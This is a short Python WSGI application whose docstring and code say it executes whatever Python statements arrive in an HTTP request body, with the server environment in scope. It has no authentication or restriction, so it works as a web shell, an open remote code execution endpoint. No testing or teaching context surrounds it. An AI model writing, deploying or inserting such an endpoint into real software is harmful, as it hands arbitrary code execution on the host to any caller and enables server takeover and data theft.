"""Runs the Python statements in the request body, with the environ at hand."""


def application(environ, start_response):
    statements = environ["wsgi.input"].read(1 << 20).decode()
    exec(compile(statements, "<request>", "exec"), {"environ": environ, "__name__": __name__})
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"done"]
